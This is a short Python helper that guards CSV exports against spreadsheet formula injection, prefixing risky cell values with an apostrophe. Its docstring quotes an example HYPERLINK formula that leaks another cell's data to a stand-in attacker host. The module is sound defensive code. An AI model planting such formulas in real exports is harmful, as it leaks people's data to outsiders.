"""Exports that spreadsheet programs open safely.

A prospect may type `=HYPERLINK("https://evil.example/?"&C2, "Open")` as their
name; a CSV cell starting with = + - @ (or a tab or carriage return) runs as a
formula when staff open the file, and can send other rows away. Such a value is
exported with a leading apostrophe, which spreadsheets read as "this is text"
(OWASP, CSV Injection). Plain numbers such as +18605550123 are left alone.
Wagtail's XLSX export already stores formulas as text; this is for CSV.
"""

import re

FORMULA_START = re.compile(r"^(?:[=@\t\r]|[+-](?![\d.]+$))")


def text_for_spreadsheet(value):
    if isinstance(value, str) and FORMULA_START.match(value):
        return "'" + value
    return value
